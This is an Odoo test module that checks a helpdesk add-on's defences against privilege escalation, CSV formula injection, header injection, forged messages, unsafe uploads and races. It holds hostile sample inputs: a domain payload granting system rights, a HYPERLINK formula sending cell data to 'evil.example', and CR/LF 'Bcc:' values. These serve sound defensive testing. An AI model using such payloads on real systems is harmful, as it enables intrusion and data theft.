"""Attacks and faults from outside, through the real routes: HTTP with a server, the mail gateway,
two real cursors for races. Each test failed before its fix."""
import csv
import io
import json
import sys
import threading
import traceback
import time
import uuid
from datetime import timedelta
from unittest.mock import patch

from freezegun import freeze_time

from odoo import SUPERUSER_ID, Command, api, fields
from odoo.addons.base.models.ir_mail_server import IrMailServer
from odoo.tests import TransactionCase, new_test_user, tagged
from odoo.tests.common import JsonRpcException
from odoo.tools import mute_logger

from .test_mail_gateway import GATEWAY_LOGGERS, HelpdeskLiteMailCommon
from .test_portal import PNG, HelpdeskLitePortalCase

EXE = b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + b'\x00' * 64


@tagged('post_install', '-at_install')
class TestHardeningHttp(HelpdeskLitePortalCase):

    def _message_post(self, ticket, post_data, **kwargs):
        return self._rpc('/mail/message/post', {
            'thread_model': ticket._name, 'thread_id': ticket.id, 'post_data': post_data, **kwargs})

    def _resolve(self, ticket):
        ticket.with_user(self.agent).action_resolve()
        self.env.invalidate_all()

    # --- code execution through a stored domain ---------------------------------------------------
    @mute_logger('odoo.http')
    def test_sla_extra_condition_cannot_reach_records(self):
        system = self.env.ref('base.group_system')
        self.assertFalse(self.manager.has_group('base.group_system'))
        self._login(self.manager)
        payload = f"[('id', '=', user.sudo().write({{'groups_id': [(4, {system.id})]}}) and 1)]"
        with self.assertRaises(JsonRpcException):
            self._call_kw('helpdesk.lite.sla.policy', 'create', [{
                'name': 'Escalate me', 'domain': payload, 'business_hours_only': False}])
        self.env.invalidate_all()
        self.assertFalse(self.manager.has_group('base.group_system'))
        # plain values still work
        policy_id = self._call_kw('helpdesk.lite.sla.policy', 'create', [{
            'name': 'Mine', 'domain': "[('user_id', '=', uid)]", 'business_hours_only': False,
            'response_hours': 1}])
        policy = self.env['helpdesk.lite.sla.policy'].browse(policy_id)
        # uid is whoever changes the ticket
        ticket = self.Ticket.with_user(self.manager).create({'name': 'Assigned to the manager', 'user_id': self.manager.id})
        self.assertEqual(ticket.sla_policy_id, policy)

    # --- CSV formula injection --------------------------------------------------------------------
    def test_csv_export_neutralizes_every_cell(self):
        self.customer.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        self.ticket.write({'name': '+SUM(1,2)', 'partner_phone': '@cmd', 'partner_name': '-2+3'})
        self._login(self.manager)
        response = self.url_open(f'/helpdesk_lite/export/tickets.csv?ids={self.ticket.id}&header=technical')
        self.assertEqual(response.status_code, 200)
        rows = list(csv.reader(io.StringIO(response.content.decode('utf-8-sig'))))
        header, row = rows[0], rows[1]
        cells = dict(zip(header, row))
        for column in ('partner_id', 'commercial_partner_id'):
            self.assertEqual(cells[column], "'" + self.customer.name, column)
        self.assertEqual(cells['partner_name'], "'-2+3")
        self.assertEqual(cells['name'], "'+SUM(1,2)")
        self.assertEqual(cells['partner_phone'], "'@cmd")
        dangerous = [(name, cell) for name, cell in zip(header, row)
                     if cell[:1] in ('=', '+', '@', '\t', '\r') or (cell[:1] == '-' and not cell[1:].replace('.', '').isdigit())]
        self.assertFalse(dangerous)

    # --- ratings ------------------------------------------------------------------------------------
    @mute_logger('odoo.http')
    def test_ratings_only_on_resolved_tickets_once_per_resolution(self):
        self._login(self.portal_user)
        with self.assertRaises(JsonRpcException):
            self._message_post(self.ticket, {'body': 'Great', 'rating_value': 5, 'message_type': 'comment'})
        self.assertFalse(self.ticket.rating_ids.filtered('consumed'), 'an open ticket cannot be rated')

        self._resolve(self.ticket)
        self._message_post(self.ticket, {'body': 'Solved', 'rating_value': 4, 'message_type': 'comment'})
        self.assertEqual(len(self.ticket.rating_ids.filtered('consumed')), 1)
        with self.assertRaises(JsonRpcException):
            self._message_post(self.ticket, {'body': 'Again', 'rating_value': 1, 'message_type': 'comment'})
        self.env.invalidate_all()
        self.assertEqual(self.ticket.rating_ids.filtered('consumed').mapped('rating'), [4.0])

        # Odoo's own rating page, with the token of the closing mail, on a reopened ticket
        self.ticket.with_user(self.agent).action_reopen()
        token = self.ticket._rating_get_access_token()
        self._login(None)
        response = self._post(f'/rate/{token}/submit_feedback', {'rate': '5', 'feedback': 'reopened!'})
        self.assertEqual(response.status_code, 400)
        rating = self.env['rating.rating'].search([('access_token', '=', token)])
        self.assertFalse(rating.consumed)
        # resolved again: this resolution may be rated, once
        self._resolve(self.ticket)
        response = self._post(f'/rate/{token}/submit_feedback', {'rate': '5', 'feedback': 'now fine'})
        self.assertEqual(response.status_code, 200)
        self.assertRecordValues(rating, [{'consumed': True, 'rating': 5}])
        self._login(self.portal_user)
        with self.assertRaises(JsonRpcException):
            self._message_post(self.ticket, {'body': 'More', 'rating_value': 2, 'message_type': 'comment'})
        self.assertEqual(len(self.ticket.rating_ids.filtered('consumed')), 2)

    # --- forged message kinds -----------------------------------------------------------------------
    def test_customer_posts_are_always_comments(self):
        comment = self.env.ref('mail.mt_comment')
        forged = [
            {'body': 'forged note', 'message_type': 'comment', 'subtype_xmlid': 'mail.mt_note'},
            {'body': 'forged notification', 'message_type': 'notification'},
            {'body': 'forged email', 'message_type': 'email', 'subtype_xmlid': 'mail.mt_note'},
        ]
        self._login(self.portal_user)
        for post_data in forged:
            self._message_post(self.ticket, post_data)
        # directly through the ORM over RPC: mail's rules let readers create messages
        self._call_kw('mail.message', 'create', [{
            'model': self.ticket._name, 'res_id': self.ticket.id, 'body': 'forged rpc note',
            'message_type': 'notification', 'subtype_id': self.env.ref('mail.mt_note').id, 'is_internal': True}])
        # a visitor with the ticket's token
        self._login(None)
        self._message_post(self.ticket, {'body': 'forged token note', 'message_type': 'notification',
                                         'subtype_xmlid': 'mail.mt_note'}, token=self.ticket._portal_ensure_token())
        messages = self.ticket.message_ids.filtered(lambda m: 'forged' in (m.body or ''))
        self.assertEqual(len(messages), 5)
        for message in messages:
            self.assertRecordValues(message, [{'message_type': 'comment', 'subtype_id': comment.id,
                                               'is_internal': False}])
        self.assertEqual(self.ticket.last_reply_by, 'customer')

    # --- upload policy -----------------------------------------------------------------------------
    def _upload(self, name, data, **extra):
        return self.url_open('/mail/attachment/upload', data={
            'thread_id': str(self.ticket.id), 'thread_model': self.ticket._name, 'is_pending': 'true',
            'csrf_token': self._csrf(), **extra}, files={'ufile': (name, data, 'application/octet-stream')})

    @mute_logger('odoo.http')
    def test_reply_attachments_follow_the_upload_policy(self):
        self._login(self.portal_user)
        response = self._upload('invoice.exe', EXE)
        self.assertEqual(response.status_code, 400)
        self.assertIn('not an accepted file type', response.json()['error'])
        self.assertIn('its content is not a .png file', self._upload('photo.png', EXE).json()['error'],
                      'the content decides, not the name')
        accepted = self._upload('photo.png', PNG)
        self.assertEqual(accepted.status_code, 200)
        self.assertTrue(accepted.json()['data'])
        # a file that reached the server another way is refused when posted
        exe = self.env['ir.attachment'].create({
            'name': 'tool.exe', 'raw': EXE, 'res_model': 'mail.compose.message', 'res_id': 0,
            'access_token': 'tok-exe'})
        with self.assertRaises(JsonRpcException):
            self._message_post(self.ticket, {'body': 'see file', 'attachment_ids': [exe.id],
                                             'message_type': 'comment'}, attachment_tokens=['tok-exe'])
        self.assertFalse(self.ticket.message_ids.filtered(lambda m: 'see file' in (m.body or '')))

    # --- bad input: NUL bytes, wrong JSON types ----------------------------------------------------
    @mute_logger('odoo.http')
    def test_nul_bytes_get_400_naming_the_field(self):
        self._login(self.portal_user)
        response = self.url_open('/my/helpdesk?search=print%00er')
        self.assertEqual(response.status_code, 400)
        self.assertIn('search', response.text)
        count = self.Ticket.search_count([])
        self._login(None)
        response = self._post('/helpdesk/submit', {
            'name': 'Broken\x00title', 'description': 'text', 'partner_name': 'Eve', 'partner_email': 'eve@example.com'})
        self.assertEqual(response.status_code, 400)
        self.assertIn('name', response.text)
        self.assertEqual(self.Ticket.search_count([]), count)

    @mute_logger('odoo.http')
    def test_api_rejects_nul_and_wrong_types_with_400(self):
        key = self.env['res.users.apikeys'].with_user(self.agent)._generate(
            None, 'hardening', fields.Datetime.now() + timedelta(days=1))
        count = self.Ticket.search_count([])
        cases = [
            ({'subject': 'nul\x00here'}, 'subject'),
            ({'subject': 'ok', 'requester_name': 'Eve\x00'}, 'requester_name'),
            ({'subject': 'ok', 'priority': ['high']}, 'priority'),
            ({'subject': 'ok', 'category_id': True}, 'category_id'),
            ({'subject': 'ok', 'team_id': 2 ** 40}, 'team_id'),
            ({'subject': 'ok', 'requester_email': {'a': 1}}, 'requester_email'),
        ]
        for body, field in cases:
            with self.subTest(body=body):
                response = self.url_open('/helpdesk_lite/api/v1/tickets', data=json.dumps(body), headers={
                    'Content-Type': 'application/json', 'Authorization': f'Bearer {key}'})
                self.assertEqual(response.status_code, 400, response.text)
                self.assertEqual(response.headers['Content-Type'], 'application/problem+json')
                self.assertEqual(response.json()['errors'][0]['field'], field, response.text)
        self.assertEqual(self.Ticket.search_count([]), count)

    # --- CR/LF in titles and names ------------------------------------------------------------------
    def test_line_breaks_are_normalized_on_input(self):
        self._login(None)
        self._post('/helpdesk/submit', {
            'name': 'Help\r\nBcc: victim@example.com', 'description': 'text',
            'partner_name': 'Eve\nBcc: x@example.com', 'partner_email': 'eve.crlf@example.com'})
        ticket = self.Ticket.search([('partner_email', '=', 'eve.crlf@example.com')])
        self.assertRecordValues(ticket, [{'name': 'Help Bcc: victim@example.com',
                                          'partner_name': 'Eve Bcc: x@example.com'}])
        ticket.write({'name': 'Line one\u2028line two\ttabbed'})
        self.assertEqual(ticket.name, 'Line one line two tabbed')
        self.customer.name = 'Paula\r\nPortal'
        ticket.partner_id = self.customer
        self.assertEqual(ticket.partner_name, 'Paula Portal')

    # --- stages per company -------------------------------------------------------------------------
    @mute_logger('odoo.http')
    def test_stages_are_isolated_per_company(self):
        stage = self.env['helpdesk.lite.stage'].create({'name': 'Company 1 Triage', 'team_ids': [Command.set(self.team.ids)]})
        intruder = new_test_user(
            self.env, login='hdl_c2_manager', company_id=self.company_2.id, company_ids=[Command.set(self.company_2.ids)],
            groups='base.group_user,helpdesk_lite.group_helpdesk_lite_manager')
        self._login(intruder)
        for method, args in (('write', [[stage.id], {'name': 'pwned'}]), ('unlink', [[stage.id]])):
            with self.subTest(method=method), self.assertRaises(JsonRpcException):
                self._call_kw('helpdesk.lite.stage', method, args)
        self.assertEqual(self._call_kw('helpdesk.lite.stage', 'search_count', [[('id', '=', stage.id)]]), 0)
        self.assertEqual(stage.name, 'Company 1 Triage')
        # the first company's manager still manages it
        self._login(self.manager)
        self._call_kw('helpdesk.lite.stage', 'write', [[stage.id], {'name': 'Triage'}])
        self.assertEqual(stage.name, 'Triage')

    # --- framing ------------------------------------------------------------------------------------
    def test_pages_with_buttons_refuse_framing(self):
        self._resolve(self.ticket)
        our_token = self.ticket._rating_get_access_token()
        self._login(self.portal_user)
        pages = [f'/my/helpdesk/{self.ticket.id}', '/my/helpdesk/new', '/helpdesk/submit',
                 f'/helpdesk/rate/{our_token}/5', f'/rate/{our_token}/5']
        for url in pages:
            with self.subTest(url=url):
                response = self.url_open(url)
                self.assertEqual(response.status_code, 200)
                self.assertEqual(response.headers.get('X-Frame-Options'), 'SAMEORIGIN')
                self.assertIn("frame-ancestors 'self'", response.headers.get('Content-Security-Policy', ''))


@tagged('post_install', '-at_install')
class TestHardeningMail(HelpdeskLiteMailCommon):

    @mute_logger(*GATEWAY_LOGGERS)
    def _process_raw(self, raw):
        thread_id = self.env['mail.thread'].sudo().message_process(None, raw)
        return self.Ticket.browse(thread_id or [])

    def test_nul_in_subject_and_filename_is_stripped(self):
        msg_id = self._msg_id()
        raw = (
            f'From: {self.customer.email_formatted}\r\nTo: {self.alias_email}\r\n'
            'Subject: =?utf-8?q?Broken=00_printer?= again\x00\r\n'
            f'Message-ID: {msg_id}\r\nMIME-Version: 1.0\r\n'
            'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
            '--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the log\x00 file.\r\n'
            '--b\r\nContent-Type: text/plain; name="print\x00er.log"\r\n'
            'Content-Disposition: attachment; filename="print\x00er.log"\r\n\r\nlog line\r\n--b--\r\n'
        ).encode()
        ticket = self._process_raw(raw)
        self.assertTrue(ticket, 'the mail is not lost')
        self.assertEqual(ticket.name, 'Broken printer again')
        self.assertIn('See the log file.', ticket.description)
        attachment = self.env['ir.attachment'].search([('res_model', '=', ticket._name), ('res_id', '=', ticket.id)])
        self.assertEqual(attachment.mapped('name'), ['printer.log'])

    def test_mixed_8bit_header_and_latin1_body_declared_ascii(self):
        raw = (
            f'From: {self.customer.email_formatted}\r\nTo: {self.alias_email}\r\n'.encode()
            + b'Subject: Caf\xc3\xa9 cr\xe8me br\xc3\xbbl\xc3\xa9e\r\n'
            + f'Message-ID: {self._msg_id()}\r\nMIME-Version: 1.0\r\n'.encode()
            + b'Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 8bit\r\n\r\n'
            + b'Gr\xfc\xdfe aus K\xf6ln\r\n')
        ticket = self._process_raw(raw)
        self.assertEqual(ticket.name, 'Café crème brûlée')
        self.assertIn('Grüße aus Köln', ticket.description)
        self.assertNotIn('\ufffd', ticket.description)

    def test_portal_customers_email_stays_an_email(self):
        # the gateway posts as the sender's user: a portal customer's mail is not turned into a comment
        msg_id = self._msg_id()
        ticket = self._process(subject='Sent by a portal user', msg_id=msg_id)
        self.assertTrue(self.customer.user_ids.share)
        self.assertEqual(ticket.message_ids.filtered(lambda m: m.message_id == msg_id).mapped('message_type'),
                         ['email'])

    def test_email_only_requester_gets_status_mails(self):
        ticket = self._create_ticket(partner_email='solo.requester@example.com', partner_name='Solo',
                                     user_id=self.agent.id)
        with self.mock_mail_gateway():
            ticket.stage_id = self.stage_progress
            self.flush_tracking()
            mails = self._new_mails.filtered(lambda m: m.res_id == ticket.id and 'status of ticket' in (m.body_html or ''))
            self.assertEqual(len(mails), 1)
            recipients = (mails.email_to or '') + ' '.join(mails.recipient_ids.mapped('email'))
            mails.send()
        self.assertIn('solo.requester@example.com', recipients)
        self.assertTrue(self._sent_to('solo.requester@example.com'))


@tagged('post_install', '-at_install')
class TestMessageIdRace(TransactionCase):
    """Two workers receive the same email at the same moment (two real cursors, two threads)."""

    def _activity(self):
        """What the database sessions wait on (the message of a failed wait)."""
        with self.registry.cursor() as cr:
            cr.execute("""SELECT pid, state, wait_event_type, wait_event, left(query, 300) FROM pg_stat_activity
                          WHERE datname = current_database() AND pid != pg_backend_pid()""")
            return repr(cr.fetchall())

    def test_same_mail_delivered_twice_at_once_creates_one_ticket(self):
        uniq = uuid.uuid4().hex[:12]
        raw = (f'From: Race Sender <race.{uniq}@customer.example>\r\nTo: support@example.com\r\n'
               f'Subject: Race {uniq}\r\nMessage-ID: <race.{uniq}@customer.example>\r\n'
               'Content-Type: text/plain; charset=utf-8\r\n\r\nDelivered twice.\r\n')
        first_done, release_first = threading.Event(), threading.Event()
        results, errors = {}, []

        def deliver(name, hold):
            threading.current_thread().testing = True
            try:
                with self.registry.cursor() as cr:
                    # the loading thread holds the registry lock: hand the registry over instead of looking it up
                    cr.transaction = api.Transaction(self.registry)
                    env = api.Environment(cr, SUPERUSER_ID, {})
                    results[name] = env['mail.thread'].message_process('helpdesk.lite.ticket', raw)
                    if hold:
                        first_done.set()
                        release_first.wait(30)
            except Exception as error:  # noqa: BLE001 - reported by the assertions below
                errors.append(error)
                first_done.set()

        def waiting_on_lock():
            with self.registry.cursor() as cr:
                cr.execute("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted")
                return cr.fetchone()[0]

        first = threading.Thread(target=deliver, args=('first', True))
        second = threading.Thread(target=deliver, args=('second', False))
        try:
            with mute_logger(*GATEWAY_LOGGERS):
                first.start()
                self.assertTrue(first_done.wait(30), self._activity() + ''.join(
                    traceback.format_stack(sys._current_frames().get(first.ident))))
                second.start()
                deadline = time.time() + 20
                while second.is_alive() and not waiting_on_lock() and time.time() < deadline:
                    time.sleep(0.05)
                release_first.set()
                first.join(60)
                second.join(60)
            self.assertFalse(errors)
            with self.registry.cursor() as cr:
                env = api.Environment(cr, SUPERUSER_ID, {})
                tickets = env['helpdesk.lite.ticket'].search([('name', '=', f'Race {uniq}')])
                self.assertEqual(len(tickets), 1, 'one email, one ticket')
                self.assertEqual(sorted(bool(r) for r in results.values()), [False, True])
        finally:
            release_first.set()
            with self.registry.cursor() as cr:
                env = api.Environment(cr, SUPERUSER_ID, {})
                env['helpdesk.lite.ticket'].with_context(active_test=False).search(
                    [('name', '=', f'Race {uniq}')]).unlink()
                env['mail.message'].search([('message_id', '=', f'<race.{uniq}@customer.example>')]).unlink()


@tagged('post_install', '-at_install')
class TestHardeningRequester(HelpdeskLitePortalCase):

    @mute_logger('odoo.http')
    def test_public_form_cannot_file_in_a_customers_name(self):
        self._login(None)
        with self.mock_mail_gateway():
            self._post('/helpdesk/submit', {
                'name': 'Please change my bank account', 'description': 'new IBAN: XX00 EVIL',
                'partner_name': 'Paula Portal', 'partner_email': self.customer.email})
        ticket = self.Ticket.search([('name', '=', 'Please change my bank account')])
        self.assertRecordValues(ticket, [{'partner_id': False, 'unverified_partner_id': self.customer.id}])
        # not in the customer's portal, not readable by them
        self._login(self.portal_user)
        self.assertNotIn('change my bank account', self.url_open('/my/helpdesk').text)
        self.assertEqual(self.url_open(f'/my/helpdesk/{ticket.id}').status_code, 404)
        # the acknowledgement goes to the address's owner, with the confirmation link
        self.Ticket._cron_send_acknowledgements()
        ack = self.env['mail.mail'].search([('model', '=', ticket._name), ('res_id', '=', ticket.id),
                                            ('body_html', 'ilike', 'received your request')])
        self.assertIn(self.customer.email, ack.email_to or '')
        url = ticket._requester_confirm_url()
        self.assertIn(url, ack.body_html)
        # a forged or stale link does nothing
        self._login(None)
        self.assertEqual(self.url_open(f'/helpdesk/confirm/{ticket.id}/{"0" * 64}').status_code, 404)
        self.assertEqual(self._post(f'/helpdesk/confirm/{ticket.id}/{"0" * 64}').status_code, 404)
        page = self.url_open(url)
        self.assertEqual(page.status_code, 200)
        self.assertFalse(ticket.partner_id, 'opening the link (GET) confirms nothing')
        self.assertEqual(self._post(url).status_code, 303)
        self.env.invalidate_all()
        self.assertRecordValues(ticket, [{'partner_id': self.customer.id, 'unverified_partner_id': False}])
        self.assertIn(self.customer, ticket.message_partner_ids)
        self.assertEqual(self._post(url).status_code, 404, 'the link works once')

    def test_merge_of_different_customers_needs_confirmation_and_leaks_nothing(self):
        other_user = new_test_user(self.env, login='hdl_portal_other', name='Oscar Other',
                                   email='oscar.other@example.com', groups='base.group_portal')
        theirs = self._create_ticket(name='Oscar private issue', partner_id=other_user.partner_id.id)
        theirs.message_post(body='my password is hunter2', message_type='comment', subtype_xmlid='mail.mt_comment',
                            author_id=other_user.partner_id.id)
        their_file = self.env['ir.attachment'].create({
            'name': 'oscar-id.txt', 'raw': b'passport', 'res_model': theirs._name, 'res_id': theirs.id})
        theirs.message_subscribe(partner_ids=other_user.partner_id.ids)
        self.ticket.message_post(body='Paula own reply', message_type='comment', subtype_xmlid='mail.mt_comment',
                                 author_id=self.customer.id)
        Merge = self.env['helpdesk.lite.ticket.merge'].with_user(self.agent).with_context(
            active_model=self.ticket._name, active_ids=(self.ticket | theirs).ids)
        wizard = Merge.create({'ticket_ids': [Command.set((self.ticket | theirs).ids)],
                               'target_ticket_id': self.ticket.id})
        self.assertTrue(wizard.other_customers)
        with self.assertRaisesRegex(Exception, 'another customer'):
            wizard.action_merge()
        self.assertFalse(theirs.merged_into_id)
        wizard.confirm_other_customers = True
        wizard.action_merge()
        self.assertEqual(theirs.merged_into_id, self.ticket)
        # agents still read it on the kept ticket
        self.assertIn('hunter2', ''.join(self.ticket.with_user(self.agent).message_ids.mapped('body')))
        self.assertNotIn(other_user.partner_id, self.ticket.message_partner_ids)
        self.assertEqual(their_file.res_id, theirs.id)
        # the kept ticket's customer sees none of it on the portal
        self._login(self.portal_user)
        messages = self._rpc('/mail/thread/messages', {
            'thread_model': self.ticket._name, 'thread_id': self.ticket.id, 'limit': 100})
        self.assertIn('Paula own reply', json.dumps(messages), 'the fetch shows the ticket\'s public messages')
        self.assertNotIn('hunter2', json.dumps(messages))
        self.assertNotIn('hunter2', self.url_open(f'/my/helpdesk/{self.ticket.id}').text)
        self.assertNotEqual(self.url_open(f'/web/content/{their_file.id}').status_code, 200)


@tagged('post_install', '-at_install')
class TestHardeningMailRetry(HelpdeskLiteMailCommon):

    def test_smtp_down_mails_are_retried_with_backoff_then_left_failed(self):
        ticket = self._create_ticket(partner_id=self.customer.id)
        ticket.stage_id = self.stage_progress
        self.flush_tracking()
        mail = self.env['mail.mail'].search([('model', '=', ticket._name), ('res_id', '=', ticket.id),
                                             ('state', '=', 'outgoing')])
        self.assertEqual(len(mail), 1)
        now = fields.Datetime.now()
        with patch.object(IrMailServer, 'connect', side_effect=ConnectionRefusedError('SMTP server down')), \
                mute_logger('odoo.addons.mail.models.mail_mail'):
            mail.send()
            self.assertRecordValues(mail, [{'state': 'outgoing', 'helpdesk_lite_attempts': 1}])
            self.assertGreaterEqual(mail.scheduled_date, now + timedelta(minutes=4))
            self.assertTrue(ticket.mail_failing)
            self.assertIn('SMTP server down', ticket.mail_failure_reason)
            self.assertIn(ticket, self.Ticket.search([('mail_failing', '=', True)]))
            # the queue leaves it alone until it is due
            self.env['mail.mail'].process_email_queue(ids=mail.ids)
            self.assertEqual(mail.helpdesk_lite_attempts, 1)
            delays = [mail.scheduled_date]
            for attempt in range(2, 7):
                with freeze_time(mail.scheduled_date + timedelta(seconds=1)):
                    self.env['mail.mail'].process_email_queue(ids=mail.ids)
                self.assertEqual(mail.helpdesk_lite_attempts, attempt)
                delays.append(mail.scheduled_date)
        gaps = [later - earlier for earlier, later in zip(delays, delays[1:-1])]
        self.assertEqual(gaps, sorted(gaps), 'the delays grow')
        self.assertEqual(mail.state, 'exception', 'given up after a bounded number of attempts')
        self.assertIn('Gave up after 6 attempts', mail.failure_reason)
        self.assertIn('SMTP server down', mail.failure_reason)
        self.assertTrue(ticket.mail_failing)

    def test_retried_mail_is_sent_once_the_server_is_back(self):
        ticket = self._create_ticket(partner_id=self.customer.id)
        ticket.stage_id = self.stage_progress
        self.flush_tracking()
        mail = self.env['mail.mail'].search([('model', '=', ticket._name), ('res_id', '=', ticket.id)])
        with patch.object(IrMailServer, 'connect', side_effect=ConnectionRefusedError('SMTP server down')), \
                mute_logger('odoo.addons.mail.models.mail_mail'):
            mail.send()
        self.assertTrue(ticket.mail_failing)
        with self.mock_mail_gateway(), freeze_time(mail.scheduled_date + timedelta(seconds=1)):
            self.env['mail.mail'].process_email_queue(ids=mail.ids)
        self.assertTrue(self._sent_to(self.customer.email))
        self.env.invalidate_all()
        self.assertFalse(ticket.mail_failing)
